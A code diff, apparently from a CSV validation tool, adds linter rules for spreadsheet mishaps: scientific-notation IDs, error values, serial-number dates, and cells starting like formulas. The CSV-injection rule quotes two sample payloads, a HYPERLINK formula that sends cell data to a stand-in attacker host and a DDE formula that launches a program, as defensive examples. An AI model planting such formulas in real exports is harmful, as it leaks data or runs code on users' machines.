@@ -284,6 +284,26 @@ rules! {
          Why it matters: a strict parser reads ` true` or `ada@example.com ` as invalid or as a different value.\n\
          Example: `reviewer ` in Platform Roles. Fix: remove the spaces.",
         fix Always "Safe: removes the white space around the value (two deletions; a fix of the value itself applies with it).";
+    SCIENTIFIC_NOTATION_ID = "C016", "scientific-notation-id", Error, "Resources and their fields",
+        "An ID a spreadsheet turned into a number in scientific notation",
+        "What it does: flags a cell of an identifier column (marked `identifier = true` in the format's table: Employee ID, User ID, Source ID, ID...) written as a number in scientific notation, `5.83231E+11`, and says how many digits survive.\n\
+         Why it matters: a spreadsheet shows a long number in scientific notation and saves it as shown: `583231000042` becomes `5.83231E+11`, and the digits after the sixth significant one are gone, in the file and in the spreadsheet. The ID then matches no record, or the wrong one: data is lost (clause 3 of the severity principle).\n\
+         Example: User ID `5.83231E+11`. Fix: export the IDs again from their source, and format the column as Text before pasting them into a spreadsheet (or import the CSV with the column typed as text).";
+    SPREADSHEET_ERROR = "C017", "spreadsheet-error", Error, "Resources and their fields",
+        "A cell holds a spreadsheet error value",
+        "What it does: flags a cell of any known column that is exactly a spreadsheet's error value: `#N/A`, `#VALUE!`, `#REF!`, `#NAME?`, `#DIV/0!`, `#NULL!`, `#NUM!` (also `#SPILL!`, `#CALC!`, `#GETTING_DATA`, `#FIELD!`, `#BLOCKED!`, `#UNKNOWN!`, `#CONNECT!`, `#ERROR!`). In a shaped column it takes the place of the shape's own finding.\n\
+         Why it matters: the cell was a formula that failed (a lookup that found nothing, a deleted reference) and the export wrote the error instead of a value; whatever the row should hold is not in the file, and a free-text column would store `#N/A` as the value.\n\
+         Example: `#N/A` in User ID, from a VLOOKUP that found no match. Fix: correct the formula or fill the value by hand, then export again; remove the row if it has no value.";
+    SPREADSHEET_DATE = "C018", "spreadsheet-date", Error, "Resources and their fields",
+        "A date column holds a spreadsheet serial number or a reformatted date-time",
+        "What it does: in date and date-time columns, recognises what a spreadsheet writes when it takes a cell for a date: a serial number (`44927`, days since 1899-12-30 in Excel's 1900 system, with a fraction for the time) or its own display of a date-time (`7/1/2024 9:00`, `2024-07-01 09:00:00` where the column wants another shape), and names the date it most likely stands for in the column's shape. It replaces `invalid-date` for those cells, at the same severity.\n\
+         Why it matters: the column has a stated shape, and a serial number or a display format is not it: the platform rejects the row, or reads another date.\n\
+         Example: Start Date `44927` in employees (2023-01-01). Fix: write `01/01/2023`; in the spreadsheet, format the column as Text, or with the custom format `mm/dd/yyyy`, before exporting.";
+    FORMULA_LIKE_CELL = "C019", "formula-like-cell", Warning, "CSV practice (OWASP CSV injection)",
+        "A text cell starts like a spreadsheet formula",
+        "What it does: flags a cell of a free-text column that starts with `=`, `+`, `-`, `@`, a TAB or a carriage return, the characters OWASP's CSV-injection guidance lists, unless it is a number (`-5`, `+1.5`).\n\
+         Why it matters: the platform takes the text as it is, but an export is often opened in a spreadsheet again, which runs such a cell as a formula: `=HYPERLINK(...)` leaks data when clicked, `=cmd|' /C calc'!A0` runs a program. The spec says nothing of it, so it is a warning.\n\
+         Example: Name `=HYPERLINK(\"http://evil.example/?\"&A1,\"Ada\")`. Fix: remove the leading character if it is not meant; if it is, prefix the cell with a single quote (`'=...`), which spreadsheets show as text.";
     MISSING_ONE_OF = "K001", "missing-one-of", Error, "Resources and their fields",
         "None of a group of columns is filled where one is needed",
         "What it does: checks groups of which at least one cell must be filled, optionally only on some rows (a review without ID needs an identity column).\n\
